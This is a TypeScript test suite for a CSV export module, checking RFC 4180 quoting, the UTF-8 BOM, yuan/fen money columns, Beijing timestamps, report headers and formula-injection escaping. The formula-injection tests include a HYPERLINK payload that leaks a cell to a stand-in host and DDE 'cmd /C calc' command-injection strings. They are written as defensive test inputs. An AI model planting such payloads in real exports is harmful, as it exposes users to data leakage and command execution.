/**
 * gateway/src/http/csv.ts, the one CSV module of the exports: RFC 4180 quoting and CRLF, the
 * UTF-8 BOM, money as yuan and fen, formula-injection escaping of text cells only; and the
 * report column sets of services/reports-csv.ts (their headers are a contract).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  beijingIsoTime,
  CSV_LINE_END,
  csvFilename,
  csvHeaders,
  escapeFormula,
  FORMULA_TRIGGERS,
  integerCell,
  integerColumn,
  moneyColumn,
  quoteField,
  textCell,
  textColumn,
  timeColumn,
  toCsv,
  type CsvColumn,
} from '#gateway/http/csv';
import { CLEARING_CSV_EXAMPLE, CLEARING_CSV_HEADERS, TELLER_CSV_EXAMPLE, TELLER_CSV_HEADERS, tellerReportCsv } from '#gateway/services/reports-csv';
import { csvObjects, parseRfc4180 } from './support/rfc4180.ts';

const BOM = '\uFEFF';
/** OWASP's list, written here independently of the module's. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** fen → yuan with two decimals by integer arithmetic on BigInt (independent of core's formatYuan). */
function yuanOf(fenValue: number): string {
  const n = BigInt(fenValue);
  const abs = n < 0n ? -n : n;
  return `${n < 0n ? '-' : ''}${abs / 100n}.${String(abs % 100n).padStart(2, '0')}`;
}

function parse(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  return parseRfc4180(csv.slice(1));
}

describe('RFC 4180 text', () => {
  it('quotes exactly the fields holding a comma, a quote, CR or LF, and doubles quotes', () => {
    expect(quoteField('plain text')).toBe('plain text');
    expect(quoteField('')).toBe('');
    expect(quoteField("it's")).toBe("it's");
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField('"')).toBe('""""');
    expect(quoteField('two\nlines')).toBe('"two\nlines"');
    expect(quoteField('cr\rhere')).toBe('"cr\rhere"');
    expect(quoteField('crlf\r\nhere')).toBe('"crlf\r\nhere"');
  });

  it('ends every record, the last one too, with CRLF and never uses a bare LF between records', () => {
    const columns = [textColumn<{ a: string; b: number }>('a', (r) => r.a), integerColumn<{ a: string; b: number }>('b', (r) => r.b)];
    const csv = toCsv(columns, [
      { a: 'x', b: 1 },
      { a: 'multi\nline', b: 2 },
    ]);
    expect(csv).toBe(`${BOM}a,b\r\nx,1\r\n"multi\nline",2\r\n`);
    expect(csv.endsWith(CSV_LINE_END)).toBe(true);
    expect(parse(csv)).toEqual([
      ['a', 'b'],
      ['x', '1'],
      ['multi\nline', '2'],
    ]);
  });

  it('writes only the header record for no rows, and empty fields for missing values', () => {
    const columns: CsvColumn<{ v: number | null }>[] = [textColumn('t', () => null), moneyColumn('amount', (r) => r.v), timeColumn('at', (r) => r.v)];
    expect(csvHeaders(columns)).toEqual(['t', 'amount_yuan', 'amount_fen', 'at_at', 'at_ms']);
    expect(toCsv(columns, [])).toBe(`${BOM}t,amount_yuan,amount_fen,at_at,at_ms\r\n`);
    expect(toCsv(columns, [{ v: null }])).toBe(`${BOM}t,amount_yuan,amount_fen,at_at,at_ms\r\n,,,,\r\n`);
  });
});

describe('UTF-8 with BOM', () => {
  it('starts with EF BB BF and Chinese text survives the bytes both ways', () => {
    const columns = [textColumn<string>('station', (s) => s)];
    const names = ['西单', '一卡通 "测试", 北京', '天安门东\r\n换乘', '𠮷野家'];
    const bytes = Buffer.from(toCsv(columns, names), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // A strict decoder (invalid UTF-8 would throw) that keeps the BOM for us to check.
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
    expect(parse(text)).toEqual([['station'], ...names.map((n) => [n])]);
  });
});

describe('money, numbers and times', () => {
  it('writes money twice, yuan with two decimals and fen, negative amounts included and never escaped', () => {
    const columns = [moneyColumn<number>('amount', (f) => f), integerColumn<number>('count', (f) => f)];
    const csv = toCsv(columns, [0, 5, 150, -150, -5, 1_000_000_01, Number.MAX_SAFE_INTEGER]);
    expect(parse(csv)).toEqual([
      ['amount_yuan', 'amount_fen', 'count'],
      ['0.00', '0', '0'],
      ['0.05', '5', '5'],
      ['1.50', '150', '150'],
      ['-1.50', '-150', '-150'],
      ['-0.05', '-5', '-5'],
      ['1000000.01', '100000001', '100000001'],
      ['90071992547409.91', '9007199254740991', '9007199254740991'],
    ]);
    expect(csv).toContain('\r\n-1.50,-150,-150\r\n');
  });

  it('refuses a float or an unsafe integer rather than writing it', () => {
    expect(() => integerCell(1.5)).toThrow(RangeError);
    expect(() => integerCell(Number.NaN)).toThrow(RangeError);
    expect(() => integerCell(2 ** 53)).toThrow(RangeError);
    expect(() => toCsv([moneyColumn<number>('m', (f) => f)], [0.1])).toThrow(RangeError);
  });

  it('writes times as ISO 8601 in Beijing time with the offset, beside epoch ms', () => {
    const ms = Date.UTC(2026, 2, 10, 2, 0, 0);
    expect(beijingIsoTime(ms)).toBe('2026-03-10T10:00:00.000+08:00');
    expect(beijingIsoTime(Date.UTC(2026, 2, 10, 16, 30, 0, 5))).toBe('2026-03-11T00:30:00.005+08:00');
    expect(parse(toCsv([timeColumn<number>('voided', (m) => m)], [ms]))[1]).toEqual(['2026-03-10T10:00:00.000+08:00', String(ms)]);
  });
});

describe('formula injection', () => {
  it.each([
    ['=', '=HYPERLINK("http://x.example/?leak="&A1,"click")'],
    ['+', '+1+2'],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', '@SUM(A1:A9)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('prefixes a text cell beginning with %s with a single quote', (_name, text) => {
    expect(escapeFormula(text)).toBe(`'${text}`);
    const [, [cell]] = parse(toCsv([textColumn<string>('t', (s) => s)], [text]));
    expect(cell).toBe(`'${text}`);
  });

  it('the module escapes exactly the OWASP list', () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual([...TRIGGERS].sort());
  });

  it('leaves other text alone, a trigger character later in the text included', () => {
    for (const text of ['', 'cash', "'quoted", ' =1', 'a=b', '1-2', 'x@y', '中=文', '\n=1']) expect(escapeFormula(text)).toBe(text);
    expect(textCell('a=b')).toBe('a=b');
    expect(textCell(null)).toBe('');
  });

  it('escapes text cells only: a negative count or amount stays a plain number', () => {
    const columns = [textColumn<number>('text', (n) => String(n)), integerColumn<number>('n', (n) => n), moneyColumn<number>('m', (n) => n)];
    expect(parse(toCsv(columns, [-150]))[1]).toEqual(["'-150", '-150', '-1.50', '-150']);
  });
});

describe('property: the parsed CSV gives back every cell', () => {
  type Kind = 'text' | 'integer' | 'money' | 'time';
  const textValue = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.string({ unit: fc.constantFrom(...TRIGGERS, '\n', ',', '"', "'", ' ', 'a', '1', '西', '单', '€'), maxLength: 8 }),
    fc.constant(null),
  );
  const fenValue = fc.oneof(fc.integer({ min: -100_000_000, max: 100_000_000 }), fc.maxSafeInteger(), fc.integer({ min: -99, max: 99 }), fc.constant(null));
  const timeValue = fc.oneof(fc.integer({ min: 0, max: Date.UTC(2099, 11, 31) }), fc.constant(null));
  const cellValue = (kind: Kind): fc.Arbitrary<string | number | null> => (kind === 'text' ? textValue : kind === 'time' ? timeValue : fenValue);

  it('after removing the added quote exactly where a trigger started a text cell; yuan = fen / 100', () => {
    const table = fc
      .array(fc.constantFrom<Kind>('text', 'integer', 'money', 'time'), { minLength: 1, maxLength: 6 })
      .chain((kinds) => fc.tuple(fc.constant(kinds), fc.array(fc.tuple(...kinds.map(cellValue)), { maxLength: 8 })));
    fc.assert(
      fc.property(table, ([kinds, rows]) => {
        const columns: CsvColumn<(string | number | null)[]>[] = kinds.map((kind, k) => {
          if (kind === 'text') return textColumn(`c${k}`, (r) => r[k] as string | null);
          if (kind === 'integer') return integerColumn(`c${k}`, (r) => r[k] as number | null);
          if (kind === 'money') return moneyColumn(`c${k}`, (r) => r[k] as number | null);
          return timeColumn(`c${k}`, (r) => r[k] as number | null);
        });
        const records = parse(toCsv(columns, rows));
        expect(records[0]).toEqual(csvHeaders(columns));
        expect(records).toHaveLength(rows.length + 1);
        rows.forEach((row, r) => {
          const fields = records[r + 1];
          let f = 0;
          kinds.forEach((kind, k) => {
            const value = row[k];
            if (kind === 'text') {
              const cell = fields[f++];
              if (value === null) expect(cell).toBe('');
              else if (TRIGGERS.includes((value as string).charAt(0))) expect(cell).toBe(`'${value}`);
              else expect(cell).toBe(value);
            } else if (kind === 'integer') {
              expect(fields[f++]).toBe(value === null ? '' : String(value));
            } else if (kind === 'money') {
              const [yuan, fenCell] = [fields[f++], fields[f++]];
              expect(yuan).toBe(value === null ? '' : yuanOf(value as number));
              expect(fenCell).toBe(value === null ? '' : String(value));
            } else {
              const [at, ms] = [fields[f++], fields[f++]];
              if (value === null) expect([at, ms]).toEqual(['', '']);
              else {
                expect(at.endsWith('+08:00')).toBe(true);
                expect(Date.parse(at)).toBe(value);
                expect(ms).toBe(String(value));
              }
            }
          });
          expect(fields).toHaveLength(f);
        });
      }),
      { numRuns: 300 },
    );
  });
});

describe('report columns (a contract: appended to, never renamed or reordered)', () => {
  it('clearing and teller headers are the documented ones', () => {
    expect(CLEARING_CSV_HEADERS).toEqual([
      'row',
      'day',
      'operator',
      'debits',
      'amount_yuan',
      'amount_fen',
      'quarantined',
      'company',
      'company_name',
      'lost_cards',
      'late_taps_yuan',
      'late_taps_fen',
      'forfeited_held_yuan',
      'forfeited_held_fen',
    ]);
    expect(TELLER_CSV_HEADERS).toEqual([
      'row',
      'day',
      'branch',
      'payment_source',
      'loads',
      'loaded_yuan',
      'loaded_fen',
      'voids',
      'voided_yuan',
      'voided_fen',
      'net_yuan',
      'net_fen',
      'pending',
      'load_id',
      'card_no',
      'resolution',
      'voided_at',
      'voided_ms',
    ]);
    expect(parseRfc4180(CLEARING_CSV_EXAMPLE)[0]).toEqual(CLEARING_CSV_HEADERS);
    expect(parseRfc4180(TELLER_CSV_EXAMPLE)[0]).toEqual(TELLER_CSV_HEADERS);
  });

  it('a branch name that looks like a formula is escaped in every record', () => {
    const csv = tellerReportCsv({
      day: '2026-03-10',
      branch: '=cmd|"/C calc"!A0',
      sources: [{ paymentSource: 'cash', loads: 1, loadedFen: 1_000, voids: 0, voidedFen: 0, netFen: 1_000 }],
      totals: { loads: 1, loadedFen: 1_000, voids: 0, voidedFen: 0, netFen: 1_000, pending: 0 },
      voids: [],
    });
    const rows = csvObjects(parse(csv));
    expect(rows.map((r) => r.branch)).toEqual(['\'=cmd|"/C calc"!A0', '\'=cmd|"/C calc"!A0']);
    expect(rows[0]).toMatchObject({ row: 'source', payment_source: 'cash', loaded_yuan: '10.00', loaded_fen: '1000', load_id: '', voided_at: '' });
  });

  it('download names keep only safe characters', () => {
    expect(csvFilename('clearing', '2026-03-10')).toBe('clearing-2026-03-10.csv');
    expect(csvFilename('teller', '2026-03-10', '分行 "1"\r\n')).toMatch(/^teller-2026-03-10-[A-Za-z0-9._-]+\.csv$/);
  });
});
